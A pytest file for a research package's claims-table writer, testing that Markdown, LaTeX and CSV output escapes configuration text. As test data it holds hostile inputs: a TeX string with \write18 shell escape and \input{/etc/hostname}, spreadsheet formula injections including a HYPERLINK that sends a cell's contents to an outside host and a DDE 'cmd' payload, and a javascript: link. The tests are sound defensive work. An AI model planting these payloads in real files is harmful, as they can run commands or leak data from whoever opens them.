"""The claims table as files (attnbias.claims.write): Markdown, LaTeX and CSV, with config
text kept as text.
"""

from __future__ import annotations

import csv
import re
import shutil
import subprocess

import numpy as np
import pandas as pd
import pytest
from claims_tables import GOOD, OPTS, fixed_table, gd_like, ngd_like

from attnbias.claims import layouts, write
from attnbias.workflow import csvcells, io, provenance


def test_hypotheses_and_labels_are_shown_safely():
    broken = dict(GOOD, ass1_rho=6.0, ass1_holds=False)
    rows = layouts.claims(
        {"x": {"layout": "fixed_decoder", "optimizers": OPTS, "seeds": 2,
               "labels": {"gd": "GD <b>|x|", "ngd": "NGD"}}},
        {"x": fixed_table(gd=gd_like(), ngd=ngd_like(-0.9))},
        {"x": [2.0, 2.0]}, {"x": 3}, {"x": broken},
    )  # fmt: skip
    measured = rows[rows["kind"] != "not measured"]
    assert all("rho 6 > 0.5" in h for h in measured["hypotheses"])
    trained = provenance.trained_on({"backends": ["c"], "devices": ["cpu"]})
    md = write.to_markdown(rows, trained)
    # the tag escaped (no HTML starts in it), the rest as it reads
    assert "<b>" not in md.replace("\\<b>", "") and "GD \\<b>\\|x\\|" in md
    assert "The runs trained on the compiled C kernel (cpu)." in md
    assert md.count("|---|---|---|---|") == md.count("## ")  # the compact four columns


def test_markdown_groups_by_result_and_latex_macros_are_unique():
    table = layouts.claims(
        {"x": {"layout": "fixed_decoder", "optimizers": OPTS, "seeds": 2}},
        {"x": fixed_table(gd=gd_like(), ngd=ngd_like(-0.9))},
        {"x": [2.0, 2.0]},
        {"x": 3},
        {"x": GOOD},
    )
    md = write.to_markdown(table)
    headings = re.findall(r"^## (.*)$", md, re.M)
    assert len(headings) == len(set(headings)) and {"Thm. 1", "Lem. 3"} <= set(headings)
    assert write.summary_line(table) in md
    html = write.to_html(table)
    assert "not reached by t = 10000" in html  # GD never crosses 1e-2 here
    assert write.summary_line(table) in html
    # the two registries (the paper's, beyond it) are Markdown only
    assert html.count("<table>") == md.count("## ") - 2
    tex = write.to_latex(table)
    names = re.findall(r"\\newcommand\{\\([^}]*)\}", tex)
    measured = table[table["kind"] != "not measured"]
    assert len(names) == len(set(names)) >= 4 * len(measured) + len(table) - len(measured)
    assert all(re.fullmatch(r"claim[A-Za-z]+", n) for n in names)
    mean = table.loc[table["key"] == "x ngd rate bound", "mean"].item()
    assert f"\\newcommand{{\\claimXNgdRateBoundMean}}{{{mean:.4g}}}" in tex


# config text as a TeX file and a spreadsheet would misread it
HOSTILE_TEX = (
    "NGD}\\immediate\\write18{touch x}\\input{/etc/hostname}\\newcommand{\\zz}{",
    "PS 100% #1 & co",
    "$x^2$ ~ a_b \\ {{}} \\relax",
)


HOSTILE_CSV = ('=HYPERLINK("http://host/?"&A1)', "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3")


def hostile_table(labels) -> pd.DataFrame:
    """The claims rows of a run whose optimizers' labels (in the claim's words) are
    `labels`, under an experiment name that is TeX too (in the keys: the macros' names)."""
    experiment = {"layout": "fixed_decoder", "optimizers": OPTS, "seeds": 2,
                  "labels": dict(zip(OPTS, labels, strict=True))}  # fmt: skip
    name = "x}\\input{y"
    return layouts.claims({name: experiment}, {name: fixed_table(gd=gd_like(), ngd=ngd_like(-0.9))},
                         {name: [2.0, 2.0]}, {name: 3}, {name: GOOD})  # fmt: skip


def tex_group(tex: str, start: int) -> tuple[str, int]:
    """The text of the brace group that opens at tex[start], and the index after it: braces
    counted, an escaped character (backslash and one more) skipped."""
    assert tex[start] == "{", tex[start:]
    depth, i = 0, start
    while True:
        if tex[i] == "\\":
            i += 2
            continue
        depth += {"{": 1, "}": -1}.get(tex[i], 0)
        i += 1
        if depth == 0:
            return tex[start + 1 : i - 1], i


def tex_macros(tex: str) -> dict[str, str]:
    """{name: body} of every \\newcommand{\\name}{body} of `tex`; nothing else may be there
    but the comment line at the top (a body that ended early would leave text outside)."""
    macros, i = {}, tex.index("\n") + 1
    while i < len(tex):
        assert tex.startswith("\\newcommand", i), tex[i : i + 80]
        name, i = tex_group(tex, i + len("\\newcommand"))
        body, i = tex_group(tex, i)
        assert tex[i] == "\n"
        macros[name.removeprefix("\\")] = body
        i += 1
    return macros


TEX_ESCAPES = {r"\textbackslash{}": "\\", r"\textasciitilde{}": "~", r"\^{}": "^",
               **{f"\\{c}": c for c in "{}$&#_%"}}  # fmt: skip


def test_claims_tex_carries_config_text_as_text(tmp_path):
    table = hostile_table(HOSTILE_TEX[:2])
    table["verdict"] = [HOSTILE_TEX[i % 3] + " " + v for i, v in enumerate(table["verdict"])]
    tex = write.to_latex(table)
    macros = tex_macros(tex)
    assert all(re.fullmatch(r"claim[A-Za-z]+", n) for n in macros)
    escaped = "|".join(re.escape(e) for e in TEX_ESCAPES)
    for name, body in macros.items():
        # no special character left once its escapes are taken out; the text read back
        plain = re.sub(escaped, "", body)
        assert not set(plain) & set("\\{}$&#^_%~"), (name, body)
        if name.endswith("Verdict"):
            text = re.sub(escaped, lambda m: TEX_ESCAPES[m[0]], body)
            assert text in set(table["verdict"]), (name, text)
        else:
            assert re.fullmatch(r"-?[0-9.e+-]+|not reached", body), (name, body)
    assert len([n for n in macros if n.endswith("Verdict")]) == len(table)
    engine = next(filter(None, map(shutil.which, ("pdflatex", "lualatex", "xelatex"))), None)
    if engine is None:
        pytest.skip("no TeX engine installed (pdflatex, lualatex, xelatex): macros checked as text")
    io.save_text(tmp_path / "claims.tex", tex)
    verdicts = " ".join(f"\\{n}" for n in macros if n.endswith("Verdict"))
    (tmp_path / "doc.tex").write_text(
        f"\\documentclass{{article}}\\begin{{document}}\\input{{claims.tex}}{verdicts}"
        "\\end{document}\n"
    )
    result = subprocess.run(
        [engine, "-no-shell-escape", "-interaction=nonstopmode", "-halt-on-error", "doc.tex"],
        cwd=tmp_path, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert result.returncode == 0, result.stdout[-3000:]
    assert not (tmp_path / "x").exists()


def test_claims_csv_cells_are_never_formulas(tmp_path):
    table = hostile_table(HOSTILE_CSV[:2])
    table["verdict"] = [HOSTILE_CSV[i % 4] for i in range(len(table))]
    table.loc[0, "reference"] = "-lr/||W_mm|| = -0.03 (mean over seeds)"  # as the build has it
    table.loc[1, "reference"] = "'=1+1"  # a quote that starts a text: kept on the way back
    path = tmp_path / "claims.csv"
    io.save_csv(path, write.to_csv(table))
    with path.open(newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    # what a spreadsheet reads as a formula starts no cell but a number's
    formulas = [c for c in cells if c.startswith(csvcells.FORMULA_START)]
    assert formulas and all(float(c) < 0 for c in formulas)
    assert {f"'{h}" for h in HOSTILE_CSV} <= set(cells)
    assert "'-lr/||W_mm|| = -0.03 (mean over seeds)" in cells
    # numbers stay numbers; text reads back as it was
    back = pd.read_csv(path, float_precision="round_trip")
    for column in ("mean", "low", "high", "ratio", "r2"):
        assert back[column].dtype == float
        np.testing.assert_array_equal(back[column], table[column].astype(float))
    assert (back["mean"] < 0).any()
    back = csvcells.read(path, keep_default_na=False)
    for column in ("verdict", "reference", "claim", "value_text", "key"):
        assert back[column].tolist() == table[column].tolist(), column
    assert csvcells.cell(-0.5) == -0.5 and csvcells.cell("-0.5") == "'-0.5"


def test_a_markdown_link_in_a_label_stays_text():
    from attnbias.claims.write import markdown_cell

    cell = markdown_cell("GD [x](javascript:alert(1)) | <b>")
    assert "](" not in cell.replace("\\](", "")  # no unescaped link syntax left
    assert cell == "GD [x\\](javascript:alert(1)) \\| \\<b>"


def test_the_header_says_what_optional_targets_add_and_the_default_builds_counts():
    """Rows of an optional target (here "extra", run on the two-token example: statements
    no default experiment measures) are named in the header, with the summary the default
    build alone gives: the same as a build without them."""
    fixed = {"layout": "fixed_decoder", "optimizers": OPTS, "seeds": 2, "paper_figure": None}
    two_token = dict(fixed, layout="two_token")

    def build(names):
        experiments = {"x": fixed, "extra": two_token}
        tables = {"x": fixed_table(gd=gd_like(), ngd=ngd_like()),
                  "extra": fixed_table(gd=gd_like(), ngd=ngd_like(-1.5))}  # fmt: skip
        return layouts.claims(
            {n: experiments[n] for n in names}, {n: tables[n] for n in names},
            {n: [2.0, 2.0] for n in names}, {n: 3 for n in names}, {n: GOOD for n in names},
        )  # fmt: skip

    both, default = build(["x", "extra"]), build(["x"])
    added = int((both["key"].str.startswith("extra ")).sum())
    line = write.optional_line(both, ["extra"])
    assert f"extra ({added} rows)" in line
    assert line.endswith(write.summary_line(default))
    assert write.summary_line(default) != write.summary_line(both)
    assert write.optional_line(default, ["extra"]) == ""  # nothing added: nothing said
    assert line.replace("`", "") in write.to_markdown(both, optional=["extra"]).replace(
        "\\", ""
    ).replace("`", "")
